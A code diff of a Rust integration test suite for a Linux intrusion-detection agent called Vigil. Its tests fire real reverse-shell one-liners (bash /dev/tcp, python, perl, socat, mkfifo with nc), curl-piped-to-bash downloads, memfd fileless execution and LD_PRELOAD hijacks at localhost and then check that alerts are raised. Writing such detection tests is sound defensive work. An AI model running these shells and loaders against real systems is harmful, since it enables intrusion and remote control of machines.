@@ -24,28 +24,6 @@ const WAIT: Duration = Duration::from_secs(60);
 // Helpers
 // ------------------------------------------------------------------------------------
 
-/// The system python (not a pyenv shim, whose shell scripts would blur the process tree).
-fn py() -> String {
-    for p in ["/usr/bin/python3", "/usr/local/bin/python3"] {
-        if Path::new(p).exists() {
-            return p.to_string();
-        }
-    }
-    which("python3")
-}
-
-/// Absolute path of a tool on PATH; fails the test with a clear message when it is missing.
-fn which(tool: &str) -> String {
-    let path = std::env::var("PATH").unwrap_or_default();
-    for dir in path.split(':').chain(["/usr/sbin", "/sbin", "/usr/bin", "/bin"]) {
-        let p = Path::new(dir).join(tool);
-        if p.is_file() {
-            return p.display().to_string();
-        }
-    }
-    panic!("this scenario needs `{tool}`, which is not installed (scripts/setup.sh installs the test tools)");
-}
-
 /// Runs `/bin/sh -c script`, waits, returns its output (the status is not checked: several
 /// scenarios end on a timeout or a refused connection on purpose).
 fn sh(script: &str) -> Output {
@@ -72,7 +50,7 @@ fn sh_ok(script: &str) -> Output {
 
 /// Runs a python snippet with the system python; returns (pid, output).
 fn python(code: &str, args: &[&str]) -> (u32, Output) {
-    let child = Command::new(py())
+    let child = Command::new(PY)
         .arg("-c")
         .arg(code)
         .args(args)
@@ -95,15 +73,6 @@ fn python_ok(code: &str, args: &[&str]) -> (u32, String) {
     (pid, String::from_utf8_lossy(&out.stdout).into_owned())
 }
 
-fn unique(tag: &str) -> String {
-    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
-    format!(
-        "vigil-exec-{tag}-{}-{}",
-        std::process::id(),
-        N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
-    )
-}
-
 /// A directory under /tmp itself (whatever TMPDIR says): the tmp rules key on /tmp.
 fn tmp_dir(tag: &str) -> TempDir {
     let p = Path::new("/tmp").join(unique(tag));
@@ -124,94 +93,6 @@ fn install(src: &str, dir: &Path, name: &str) -> PathBuf {
     std::fs::copy(src, &dst).unwrap_or_else(|e| panic!("copy {src} to {}: {e}", dst.display()));
     std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(0o755)).unwrap();
     dst
-}
-
-fn agent_pid(agent: &Agent) -> i32 {
-    agent
-        .ready_line
-        .rsplit("agent pid ")
-        .next()
-        .and_then(|p| p.split(|c: char| !c.is_ascii_digit()).next())
-        .and_then(|p| p.parse().ok())
-        .unwrap_or_else(|| panic!("agent pid in the ready line: {}", agent.ready_line))
-}
-
-/// The event's process is `pid` or descends from it.
-fn in_tree(v: &Value, pid: u32) -> bool {
-    v["proc"]["pid"] == pid
-        || v["ancestors"]
-            .as_array()
-            .is_some_and(|a| a.iter().any(|x| x["pid"] == pid))
-}
-
-fn output(v: &Value) -> &str {
-    str_of(&v["alert"]["output"])
-}
-
-fn summary_of_alerts(lines: &[Value]) -> String {
-    alerts(lines)
-        .iter()
-        .map(|a| {
-            format!(
-                "  {} [{}]: {}",
-                str_of(&a["alert"]["rule"]),
-                str_of(&a["alert"]["priority"]),
-                output(a)
-            )
-        })
-        .collect::<Vec<_>>()
-        .join("\n")
-}
-
-/// Waits for an alert of `rule` accepted by `pred`; panics with every alert seen otherwise.
-fn wait_alert_in(lines_of: impl Fn() -> Vec<Value>, rule: &str, pred: impl Fn(&Value) -> bool) -> Value {
-    let deadline = Instant::now() + WAIT;
-    loop {
-        let lines = lines_of();
-        if let Some(a) = alerts_of(&lines, rule).into_iter().find(|a| pred(a)) {
-            return a.clone();
-        }
-        if Instant::now() > deadline {
-            panic!(
-                "no alert `{rule}` matching the scenario; alerts seen:\n{}",
-                summary_of_alerts(&lines)
-            );
-        }
-        std::thread::sleep(Duration::from_millis(50));
-    }
-}
-
-fn wait_alert(agent: &Agent, rule: &str, pred: impl Fn(&Value) -> bool) -> Value {
-    wait_alert_in(|| agent.lines(), rule, pred)
-}
-
-/// The alert has this priority, this ATT&CK technique, and its output contains `part`.
-fn check(alert: &Value, priority: &str, technique: &str, part: &str) {
-    let rule = str_of(&alert["alert"]["rule"]);
-    assert_eq!(alert["alert"]["priority"], priority, "priority of `{rule}`");
-    let techniques = alert["alert"]["mitre_techniques"]
-        .as_array()
-        .cloned()
-        .unwrap_or_default();
-    assert!(
-        techniques.iter().any(|t| t == technique),
-        "`{rule}` should carry {technique}, has {techniques:?}"
-    );
-    assert!(
-        output(alert).contains(part),
-        "output of `{rule}` should contain `{part}`: {}",
-        output(alert)
-    );
-}
-
-/// Fails if any alert of `rule` matches `pred` (call after the agent has seen the events).
-fn assert_no_alert(lines: &[Value], rule: &str, pred: impl Fn(&Value) -> bool) {
-    let bad: Vec<_> = alerts_of(lines, rule).into_iter().filter(|a| pred(a)).collect();
-    assert!(
-        bad.is_empty(),
-        "`{rule}` fired on a near miss: {}",
-        bad.iter().map(|a| output(a)).collect::<Vec<_>>().join("\n")
-    );
 }
 
 /// Waits until the agent has written an event (any kind) from `pid`'s tree whose exec
@@ -274,86 +155,12 @@ fn http_server(body: Vec<u8>) -> u16 {
     port
 }
 
-/// Starts `argv` detached from this test: double-forked, re-parented to init (or the
-/// nearest subreaper) before it execs, so that its ancestry does not include `cargo test`.
-/// Tests run under cargo, and cargo is both a build tool and a package manager: rules that
-/// except build and package-manager lineages would otherwise never fire here. Waits for the
-/// program to end (killed after 20 s); returns its pid and what it wrote (stdout+stderr).
-const DETACH: &str = r#"
-import os, sys, time
-out, argv = sys.argv[1], sys.argv[2:]
-r, w = os.pipe()
-mid = os.fork()
-if mid == 0:
-    os.close(r)
-    me = os.getpid()
-    pid = os.fork()
-    if pid == 0:
-        os.close(w)
-        while os.getppid() == me:
-            time.sleep(0.005)
-        fd = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
-        null = os.open('/dev/null', os.O_RDONLY)
-        os.dup2(null, 0); os.dup2(fd, 1); os.dup2(fd, 2)
-        os.execvp(argv[0], argv)
-    os.write(w, str(pid).encode())
-    os._exit(0)
-os.close(w)
-os.waitpid(mid, 0)
-pid = int(os.read(r, 32))
-print(pid, flush=True)
-deadline = time.time() + 20
-def alive():
-    try:
-        with open('/proc/%d/stat' % pid) as f:
-            return f.read().rsplit(')', 1)[1].split()[0] != 'Z'
-    except OSError:
-        return False
-while alive():
-    if time.time() > deadline:
-        os.kill(pid, 9)
-        sys.exit('detached program did not end within 20 s: %s' % argv)
-    time.sleep(0.02)
-"#;
-
-fn detached(argv: &[&str]) -> (u32, String) {
-    let out_file = Path::new("/tmp").join(unique("detached-out"));
-    // the environment of a login shell, not cargo's (which is larger than the 2 KiB the
-    // kernel keeps of it, and carries a build's LD_LIBRARY_PATH)
-    let out = Command::new(py())
-        .env_clear()
-        .env("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
-        .env("HOME", std::env::var("HOME").unwrap_or_else(|_| "/root".into()))
-        .env("LANG", "C.UTF-8")
-        .arg("-c")
-        .arg(DETACH)
-        .arg(&out_file)
-        .args(argv)
-        .stdin(Stdio::null())
-        .stderr(Stdio::inherit())
-        .output()
-        .expect("python3 is needed by these tests");
-    let text = std::fs::read_to_string(&out_file).unwrap_or_default();
-    let _ = std::fs::remove_file(&out_file);
-    assert!(out.status.success(), "detached run of {argv:?} failed: {text}");
-    let pid = String::from_utf8_lossy(&out.stdout)
-        .trim()
-        .parse()
-        .expect("pid of the detached program");
-    (pid, text)
-}
-
-/// `detached` for a shell script.
-fn detached_sh(script: &str) -> (u32, String) {
-    detached(&["/bin/sh", "-c", script])
-}
-
 /// Removes a local account when dropped (even on panic).
 struct AccountGuard(String);
 
 impl Drop for AccountGuard {
     fn drop(&mut self) {
-        let _ = Command::new(which("userdel"))
+        let _ = Command::new(need("userdel"))
             .args(["-f", &self.0])
             .stderr(Stdio::null())
             .status();
@@ -366,7 +173,7 @@ impl Drop for AccountGuard {
 
 #[test]
 fn bash_dev_tcp_reverse_shell_is_detected() {
-    let bash = which("bash");
+    let bash = need("bash");
     let agent = Agent::start(&[]);
     let port = listener(1, b"exit\n", Duration::from_millis(500));
     let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 0<&3 1>&3 2>&3; exec sh");
@@ -379,12 +186,12 @@ fn bash_dev_tcp_reverse_shell_is_detected() {
         &dup,
         "CRITICAL",
         "T1059.004",
-        &format!("127.0.0.1:{port} duplicated onto fd 0 of bash"),
+        &[&format!("127.0.0.1:{port} duplicated onto fd 0 of bash")],
     );
     let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&shell, "CRITICAL", "T1059.004", "Reverse shell: sh");
+    check(&shell, "CRITICAL", "T1059.004", &["Reverse shell: sh"]);
     assert_eq!(shell["proc"]["stdio_peer"], format!("127.0.0.1:{port}"));
 }
 
@@ -396,22 +203,22 @@ fn python_one_liner_reverse_shell_is_detected() {
         "import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));\
          os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.execv('/bin/sh',['sh','-i'])"
     );
-    let (pid, _) = detached(&[&py(), "-c", &code]);
+    let (pid, _) = detached(&[PY, "-c", &code]);
 
     let dup = wait_alert(&agent, "Network socket duplicated onto shell stdio", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&dup, "CRITICAL", "T1059.004", "duplicated onto fd 0 of python3");
+    check(&dup, "CRITICAL", "T1059.004", &["duplicated onto fd 0 of python3"]);
     let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&shell, "CRITICAL", "T1059.004", "cmdline=sh -i");
+    check(&shell, "CRITICAL", "T1059.004", &["cmdline=sh -i"]);
     let inline = wait_alert(
         &agent,
         "Inline interpreter code spawned a shell or connected out",
         |a| a["proc"]["pid"] == pid,
     );
-    check(&inline, "WARNING", "T1059", "python3");
+    check(&inline, "WARNING", "T1059", &["python3"]);
     // one alert per reverse shell, not one per descriptor (stdout and stderr are not reported)
     let lines = agent.lines();
     let dups = alerts_of(&lines, "Network socket duplicated onto shell stdio");
@@ -420,7 +227,7 @@ fn python_one_liner_reverse_shell_is_detected() {
 
 #[test]
 fn perl_one_liner_reverse_shell_is_detected() {
-    let perl = which("perl");
+    let perl = need("perl");
     let agent = Agent::start(&[]);
     let port = listener(1, b"exit\n", Duration::from_millis(500));
     let code = format!(
@@ -433,22 +240,22 @@ fn perl_one_liner_reverse_shell_is_detected() {
     let dup = wait_alert(&agent, "Network socket duplicated onto shell stdio", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&dup, "CRITICAL", "T1059.004", "duplicated onto fd 0 of perl");
+    check(&dup, "CRITICAL", "T1059.004", &["duplicated onto fd 0 of perl"]);
     let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&shell, "CRITICAL", "T1059.004", "Reverse shell: sh");
+    check(&shell, "CRITICAL", "T1059.004", &["Reverse shell: sh"]);
 }
 
 #[test]
 fn socat_exec_shell_is_detected() {
-    let socat = which("socat");
+    let socat = need("socat");
     let agent = Agent::start(&[]);
     let port = listener(1, b"exit\n", Duration::from_millis(500));
     let (pid, _) = detached(&[&socat, &format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh"]);
 
     let a = wait_alert(&agent, "Shell spawned by a network relay", |a| in_tree(a, pid));
-    check(&a, "CRITICAL", "T1059.004", "spawned by network relay socat");
+    check(&a, "CRITICAL", "T1059.004", &["spawned by network relay socat"]);
     assert!(
         output(&a).contains(&format!("TCP:127.0.0.1:{port} EXEC:/bin/sh")),
         "{}",
@@ -480,13 +287,13 @@ fn socat_exec_shell_is_detected() {
     conn.write_all(b"exit\n").unwrap();
     let (pid, _) = bind.join().unwrap();
     let a = wait_alert(&agent, "Shell spawned by a network relay", |a| in_tree(a, pid));
-    check(&a, "CRITICAL", "T1059.004", &format!("TCP-LISTEN:{port}"));
+    check(&a, "CRITICAL", "T1059.004", &[&format!("TCP-LISTEN:{port}")]);
 }
 
 #[test]
 fn named_pipe_reverse_shell_is_detected() {
-    which("nc");
-    which("mkfifo");
+    need("nc");
+    need("mkfifo");
     let dir = tmp_dir("fifo");
     let agent = Agent::start(&[]);
     let port = listener(1, b"echo pwned\nexit\n", Duration::from_millis(800));
@@ -496,10 +303,10 @@ fn named_pipe_reverse_shell_is_detected() {
         "rm -f {f}; mkfifo {f}; cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
         f = fifo.display()
     );
-    let (pid, _) = detached(&[&which("timeout"), "10", "/bin/sh", "-c", &script]);
+    let (pid, _) = detached(&[&need("timeout"), "10", "/bin/sh", "-c", &script]);
 
     let a = wait_alert(&agent, "Network relay wired to a named pipe", |a| in_tree(a, pid));
-    check(&a, "CRITICAL", "T1059.004", &format!("cmdline=nc 127.0.0.1 {port}"));
+    check(&a, "CRITICAL", "T1059.004", &[&format!("cmdline=nc 127.0.0.1 {port}")]);
     let steps = a["alert"]["steps"]
         .as_array()
         .expect("a sequence alert lists its steps");
@@ -511,9 +318,9 @@ fn named_pipe_reverse_shell_is_detected() {
 
 #[test]
 fn download_piped_into_a_shell_is_detected() {
-    which("curl");
-    which("wget");
-    which("bash");
+    need("curl");
+    need("wget");
+    need("bash");
     let agent = Agent::start(&[]);
     let port = http_server(b"echo fetched-and-run\n".to_vec());
     let url = format!("http://127.0.0.1:{port}/install.sh");
@@ -528,7 +335,7 @@ fn download_piped_into_a_shell_is_detected() {
             "`{script}` did not run the script: {out}"
         );
         let a = wait_alert(&agent, "Download piped into a shell", |a| in_tree(a, pid));
-        check(&a, "WARNING", "T1059.004", "Download piped into a shell: ");
+        check(&a, "WARNING", "T1059.004", &["Download piped into a shell: "]);
         assert!(
             output(&a).contains(&url),
             "the parent's command line names the URL: {}",
@@ -542,13 +349,13 @@ fn download_piped_into_a_shell_is_detected() {
     }
     // process substitution held open, the shell started a second later: download first
     let script = format!("exec 3< <(curl -s {url}); sleep 1; bash /dev/fd/3; true");
-    let (pid, out) = detached(&[&which("bash"), "-c", &script]);
+    let (pid, out) = detached(&[&need("bash"), "-c", &script]);
     assert!(
         out.contains("fetched-and-run"),
         "bash /dev/fd/3 did not run the script: {out}"
     );
     let a = wait_alert(&agent, "Download run through process substitution", |a| in_tree(a, pid));
-    check(&a, "WARNING", "T1059.004", "Shell bash /dev/fd/3 reads a download");
+    check(&a, "WARNING", "T1059.004", &["Shell bash /dev/fd/3 reads a download"]);
     let steps = a["alert"]["steps"].as_array().expect("steps");
     assert!(
         str_of(&steps[0]["output"]).contains(&format!("curl -s {url} connect")),
@@ -572,7 +379,7 @@ fn download_piped_into_a_shell_is_detected() {
         .find(|a| in_tree(a, pid))
         .cloned();
         if let Some(a) = found {
-            check(&a, "WARNING", "T1059.004", "bash <(curl -s");
+            check(&a, "WARNING", "T1059.004", &["bash <(curl -s"]);
             break;
         }
         assert!(
@@ -592,7 +399,7 @@ fn download_piped_into_a_shell_is_detected() {
 /// names the process after the symlink (`nginx`), as it would the real server.
 fn fake_server(dir: &Path, name: &str) -> PathBuf {
     let link = dir.join(name);
-    let target = std::fs::canonicalize(py()).expect("resolve python");
+    let target = std::fs::canonicalize(PY).expect("resolve python");
     std::os::unix::fs::symlink(target, &link).expect("symlink");
     link
 }
@@ -605,7 +412,7 @@ fn shell_spawned_by_a_web_server_is_detected() {
     let (pid, _) = detached(&[nginx.to_str().unwrap(), "-c", "import os; os.system('id > /dev/null')"]);
 
     let a = wait_alert(&agent, "Shell spawned by a web server", |a| in_tree(a, pid));
-    check(&a, "CRITICAL", "T1505.003", "Shell spawned by web server nginx");
+    check(&a, "CRITICAL", "T1505.003", &["Shell spawned by web server nginx"]);
     assert!(output(&a).contains("cmdline=sh -c id > /dev/null"), "{}", output(&a));
     assert_eq!(a["alert"]["mitre_tactics"][0], "persistence");
 }
@@ -619,21 +426,21 @@ fn shell_spawned_by_a_database_or_jvm_is_detected() {
         let code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])";
         let (pid, _) = detached(&[bin.to_str().unwrap(), "-c", code]);
         let a = wait_alert(&agent, "Shell spawned by a database or JVM", |a| in_tree(a, pid));
-        check(&a, "WARNING", "T1059.004", &format!("Shell spawned by {server}"));
+        check(&a, "WARNING", "T1059.004", &[&format!("Shell spawned by {server}")]);
     }
 }
 
 #[test]
 fn inline_interpreter_spawning_a_shell_or_connecting_is_detected() {
-    let perl = which("perl");
+    let perl = need("perl");
     let agent = Agent::start(&[]);
-    let (pid, _) = detached(&[&py(), "-c", "import subprocess; subprocess.run(['sh', '-c', 'true'])"]);
+    let (pid, _) = detached(&[PY, "-c", "import subprocess; subprocess.run(['sh', '-c', 'true'])"]);
     let a = wait_alert(
         &agent,
         "Inline interpreter code spawned a shell or connected out",
         |a| in_tree(a, pid),
     );
-    check(&a, "WARNING", "T1059", "led to execve by sh");
+    check(&a, "WARNING", "T1059", &["led to execve by sh"]);
     let steps = a["alert"]["steps"].as_array().expect("steps");
     assert!(str_of(&steps[0]["output"]).contains("python3 inline code"), "{steps:?}");
 
@@ -646,7 +453,7 @@ fn inline_interpreter_spawning_a_shell_or_connecting_is_detected() {
         "Inline interpreter code spawned a shell or connected out",
         |a| a["proc"]["pid"] == pid,
     );
-    check(&a, "WARNING", "T1059", &format!("127.0.0.1:{port}"));
+    check(&a, "WARNING", "T1059", &[&format!("127.0.0.1:{port}")]);
 }
 
 // ------------------------------------------------------------------------------------
@@ -668,7 +475,7 @@ fn executables_in_temporary_directories_are_detected() {
         let a = wait_alert(&agent, "Executable run from a temporary directory", |a| {
             a["proc"]["pid"] == pid
         });
-        check(&a, "WARNING", "T1204.002", &exe.display().to_string());
+        check(&a, "WARNING", "T1204.002", &[&exe.display().to_string()]);
     }
 }
 
@@ -683,13 +490,13 @@ fn executables_in_hidden_places_are_detected() {
 
     let (pid, _) = detached(&[hidden_file.to_str().unwrap()]);
     let a = wait_alert(&agent, "Hidden executable file run", |a| a["proc"]["pid"] == pid);
-    check(&a, "ERROR", "T1564.001", &hidden_file.display().to_string());
+    check(&a, "ERROR", "T1564.001", &[&hidden_file.display().to_string()]);
 
     let (pid, _) = detached(&[in_hidden_dir.to_str().unwrap()]);
     let a = wait_alert(&agent, "Executable run from a hidden directory", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1564.001", &in_hidden_dir.display().to_string());
+    check(&a, "WARNING", "T1564.001", &[&in_hidden_dir.display().to_string()]);
 }
 
 #[test]
@@ -701,7 +508,7 @@ fn program_run_through_the_dynamic_loader_is_detected() {
     let a = wait_alert(&agent, "Program run through the dynamic loader", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1218", "ld-linux-x86-64.so.2 /bin/true");
+    check(&a, "WARNING", "T1218", &["ld-linux-x86-64.so.2 /bin/true"]);
 }
 
 #[test]
@@ -709,17 +516,17 @@ fn dynamic_linker_variables_on_system_programs_are_detected() {
     let dir = tmp_dir("preload");
     let agent = Agent::start(&[]);
     let lib = dir.path().join("hook.so");
-    let (pid, _) = detached(&[&which("env"), &format!("LD_PRELOAD={}", lib.display()), "/bin/true"]);
+    let (pid, _) = detached(&[&need("env"), &format!("LD_PRELOAD={}", lib.display()), "/bin/true"]);
     let a = wait_alert(&agent, "Dynamic linker hijack on a system program", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1574.006", &format!("LD_PRELOAD={}", lib.display()));
+    check(&a, "WARNING", "T1574.006", &[&format!("LD_PRELOAD={}", lib.display())]);
 
-    let (pid, _) = detached(&[&which("env"), "LD_LIBRARY_PATH=/dev/shm/lib", &which("id")]);
+    let (pid, _) = detached(&[&need("env"), "LD_LIBRARY_PATH=/dev/shm/lib", &need("id")]);
     let a = wait_alert(&agent, "Dynamic linker hijack on a system program", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1574.006", "LD_LIBRARY_PATH=/dev/shm/lib");
+    check(&a, "WARNING", "T1574.006", &["LD_LIBRARY_PATH=/dev/shm/lib"]);
 }
 
 // ------------------------------------------------------------------------------------
@@ -728,8 +535,8 @@ fn dynamic_linker_variables_on_system_programs_are_detected() {
 
 #[test]
 fn binary_downloaded_then_executed_is_detected() {
-    which("curl");
-    which("base64");
+    need("curl");
+    need("base64");
     let dir = tmp_dir("drop");
     let agent = Agent::start(&[]);
     let port = http_server(std::fs::read("/bin/true").unwrap());
@@ -742,7 +549,7 @@ fn binary_downloaded_then_executed_is_detected() {
     ));
     assert!(out.contains("ran"), "download and run failed: {out}");
     let a = wait_alert(&agent, "Binary downloaded or decoded and executed", |a| in_tree(a, pid));
-    check(&a, "ERROR", "T1105", "Binary written by curl");
+    check(&a, "ERROR", "T1105", &["Binary written by curl"]);
     assert_eq!(a["proc"]["exepath"], payload.display().to_string());
 
     // decoded from base64 through a shell redirection: the shell opened the file, it is the writer
@@ -754,7 +561,7 @@ fn binary_downloaded_then_executed_is_detected() {
     let a = wait_alert(&agent, "Binary downloaded or decoded and executed", |a| {
         in_tree(a, pid) && a["proc"]["exepath"] == decoded.display().to_string()
     });
-    check(&a, "ERROR", "T1105", "Binary written by sh");
+    check(&a, "ERROR", "T1105", &["Binary written by sh"]);
 }
 
 #[test]
@@ -770,13 +577,13 @@ fn binary_copied_then_executed_is_detected() {
         "Dropped binary executed from a temporary or hidden location",
         |a| in_tree(a, pid),
     );
-    check(&a, "ERROR", "T1204.002", "Binary written by cp (pid");
+    check(&a, "ERROR", "T1204.002", &["Binary written by cp (pid"]);
     assert!(output(&a).contains(&in_tmp.display().to_string()), "{}", output(&a));
 
     let elsewhere = plain.path().join("tool");
     let (pid, _) = detached_sh(&format!("cp /bin/true {p} && {p}", p = elsewhere.display()));
     let a = wait_alert(&agent, "Recently written binary executed", |a| in_tree(a, pid));
-    check(&a, "WARNING", "T1204.002", &elsewhere.display().to_string());
+    check(&a, "WARNING", "T1204.002", &[&elsewhere.display().to_string()]);
 }
 
 #[test]
@@ -788,9 +595,9 @@ fn fileless_execution_from_memfd_is_detected() {
                 pid = os.fork()\n\
                 if pid == 0:\n    os.execve(fd, ['kworker'], {})\n\
                 os.waitpid(pid, 0)\n";
-    let (pid, _) = detached(&[&py(), "-c", code]);
+    let (pid, _) = detached(&[PY, "-c", code]);
     let a = wait_alert(&agent, "Fileless execution from memory", |a| in_tree(a, pid));
-    check(&a, "ERROR", "T1620", "Program executed from a memfd");
+    check(&a, "ERROR", "T1620", &["Program executed from a memfd"]);
     assert_eq!(a["evt"]["type"], "execveat");
 }
 
@@ -803,17 +610,17 @@ fn deleted_and_descriptor_execution_are_detected() {
 
     // open, unlink, then execveat the descriptor
     let code = "import os, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nos.unlink(sys.argv[1])\nos.execve(fd, ['doomed'], {})\n";
-    let (pid, _) = detached(&[&py(), "-c", code, doomed.to_str().unwrap()]);
+    let (pid, _) = detached(&[PY, "-c", code, doomed.to_str().unwrap()]);
     let a = wait_alert(&agent, "Deleted binary executed", |a| a["proc"]["pid"] == pid);
-    check(&a, "ERROR", "T1070.004", &doomed.display().to_string());
+    check(&a, "ERROR", "T1070.004", &[&doomed.display().to_string()]);
 
     // fexecve of a file that stays on disk
     let code = "import os, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nos.execve(fd, ['by-fd'], {})\n";
-    let (pid, _) = detached(&[&py(), "-c", code, by_fd.to_str().unwrap()]);
+    let (pid, _) = detached(&[PY, "-c", code, by_fd.to_str().unwrap()]);
     let a = wait_alert(&agent, "Binary executed from a file descriptor", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1620", &by_fd.display().to_string());
+    check(&a, "WARNING", "T1620", &[&by_fd.display().to_string()]);
 }
 
 #[test]
@@ -828,7 +635,7 @@ fn running_executable_deleting_itself_is_detected() {
         &a,
         "ERROR",
         "T1070.004",
-        &format!("Running executable {} deleted by rm", me.display()),
+        &[&format!("Running executable {} deleted by rm", me.display())],
     );
 }
 
@@ -863,7 +670,7 @@ fn miners_scanners_sniffers_and_crackers_are_detected() {
         argv.extend_from_slice(args);
         let (pid, _) = detached(&argv);
         let a = wait_alert(&agent, rule, |a| a["proc"]["pid"] == pid);
-        check(&a, prio, technique, part);
+        check(&a, prio, technique, &[part]);
     }
 
     // a miner under any name, by its command line
@@ -875,21 +682,21 @@ fn miners_scanners_sniffers_and_crackers_are_detected() {
         "1",
     ]);
     let a = wait_alert(&agent, "Cryptocurrency miner launched", |a| a["proc"]["pid"] == pid);
-    check(&a, "CRITICAL", "T1496", "--donate-level");
+    check(&a, "CRITICAL", "T1496", &["--donate-level"]);
 }
 
 #[test]
 fn relays_and_downloaders_given_raw_addresses_are_detected() {
-    let nc = which("nc");
-    let curl = which("curl");
-    let wget = which("wget");
+    let nc = need("nc");
+    let curl = need("curl");
+    let wget = need("wget");
     let agent = Agent::start(&[]);
     // TEST-NET-1 (192.0.2.0/24) is not routed: each attempt gives up after a second
     let (pid, _) = detached(&[&nc, "-z", "-w", "1", "192.0.2.10", "4444"]);
     let a = wait_alert(&agent, "Netcat connecting to a raw IP address", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1095", "192.0.2.10 4444");
+    check(&a, "WARNING", "T1095", &["192.0.2.10 4444"]);
 
     for (tool, args) in [
         (
@@ -921,7 +728,7 @@ fn relays_and_downloaders_given_raw_addresses_are_detected() {
             &a,
             "WARNING",
             "T1105",
-            &format!("Downloader {} given a raw IP address", args[0]),
+            &[&format!("Downloader {} given a raw IP address", args[0])],
         );
         assert!(output(&a).contains("192.0.2.10"));
     }
@@ -933,9 +740,9 @@ fn relays_and_downloaders_given_raw_addresses_are_detected() {
 
 #[test]
 fn account_tools_are_detected() {
-    let useradd = which("useradd");
-    let usermod = which("usermod");
-    which("userdel");
+    let useradd = need("useradd");
+    let usermod = need("usermod");
+    need("userdel");
     let name = format!("vgx{}", std::process::id());
     let agent = Agent::start(&[]);
     let _guard = AccountGuard(name.clone());
@@ -947,20 +754,20 @@ fn account_tools_are_detected() {
         &a,
         "WARNING",
         "T1136.001",
-        &format!("useradd -M -N -s /usr/sbin/nologin {name}"),
+        &[&format!("useradd -M -N -s /usr/sbin/nologin {name}")],
     );
 
     let (pid, _) = detached(&[&usermod, "-L", &name]);
     let a = wait_alert(&agent, "Account or password changed by a tool", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1098", &format!("usermod -L {name}"));
+    check(&a, "WARNING", "T1098", &[&format!("usermod -L {name}")]);
 }
 
 #[test]
 fn namespace_tools_and_setns_outside_runtimes_are_detected() {
-    let nsenter = which("nsenter");
-    let unshare = which("unshare");
+    let nsenter = need("nsenter");
+    let unshare = need("unshare");
     let agent = Agent::start(&[]);
     let me = std::process::id().to_string();
     for argv in [
@@ -971,7 +778,7 @@ fn namespace_tools_and_setns_outside_runtimes_are_detected() {
         let a = wait_alert(&agent, "Container runtime tool run outside a container runtime", |a| {
             a["proc"]["pid"] == pid
         });
-        check(&a, "WARNING", "T1611", "run outside a container runtime");
+        check(&a, "WARNING", "T1611", &["run outside a container runtime"]);
         assert!(out.is_empty(), "{argv:?} failed: {out}");
     }
 
@@ -979,11 +786,11 @@ fn namespace_tools_and_setns_outside_runtimes_are_detected() {
     let code = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
                 fd = os.open('/proc/self/ns/net', os.O_RDONLY)\n\
                 assert libc.setns(fd, 0x40000000) == 0, ctypes.get_errno()\n";
-    let (pid, _) = detached(&[&py(), "-c", code]);
+    let (pid, _) = detached(&[PY, "-c", code]);
     let a = wait_alert(&agent, "Namespace joined outside a container runtime", |a| {
         a["proc"]["pid"] == pid
     });
-    check(&a, "WARNING", "T1611", "setns into CLONE_NEWNET by python3");
+    check(&a, "WARNING", "T1611", &["setns into CLONE_NEWNET by python3"]);
 }
 
 // ------------------------------------------------------------------------------------
@@ -992,10 +799,10 @@ fn namespace_tools_and_setns_outside_runtimes_are_detected() {
 
 #[test]
 fn near_misses_of_the_execution_rules_stay_quiet() {
-    which("cc");
-    which("curl");
+    need("cc");
+    need("curl");
     // the toolchain's own cargo (not rustup's proxy, which needs the user's environment)
-    let cargo = PathBuf::from(std::env::var("CARGO").unwrap_or_else(|_| which("cargo")));
+    let cargo = PathBuf::from(std::env::var("CARGO").unwrap_or_else(|_| need("cargo")));
     let cargo_home = std::env::var("CARGO_HOME")
         .unwrap_or_else(|_| format!("{}/.cargo", std::env::var("HOME").unwrap_or_else(|_| "/root".into())));
     let dir = tmp_dir("nearmiss");
@@ -1032,7 +839,7 @@ fn near_misses_of_the_execution_rules_stay_quiet() {
          /bin/true vigil-near-miss-$((40 + 2))\n\
          echo done\n",
         dir = dir.path().display(),
-        py = py(),
+        py = PY,
         cargo = cargo.display(),
         rustc = cargo.with_file_name("rustc").display(),
         cargo_home = cargo_home,
@@ -1073,7 +880,7 @@ fn near_misses_of_the_execution_rules_stay_quiet() {
 #[test]
 fn signals_to_the_agent_are_detected() {
     let agent = Agent::start(&[]);
-    let pid = agent_pid(&agent);
+    let pid = agent.pid();
     // SIGCONT: harmless to a running agent
     let rc = unsafe { libc::kill(pid, libc::SIGCONT) };
     assert_eq!(rc, 0);
@@ -1084,7 +891,7 @@ fn signals_to_the_agent_are_detected() {
         &a,
         "CRITICAL",
         "T1562.001",
-        &format!("Signal SIGCONT sent to the Vigil agent (pid {pid})"),
+        &[&format!("Signal SIGCONT sent to the Vigil agent (pid {pid})")],
     );
     assert_eq!(a["syscall"]["target_is_vigil"], true);
 
@@ -1096,13 +903,13 @@ fn signals_to_the_agent_are_detected() {
         "the SIGINT that stopped the agent was not recorded:\n{}",
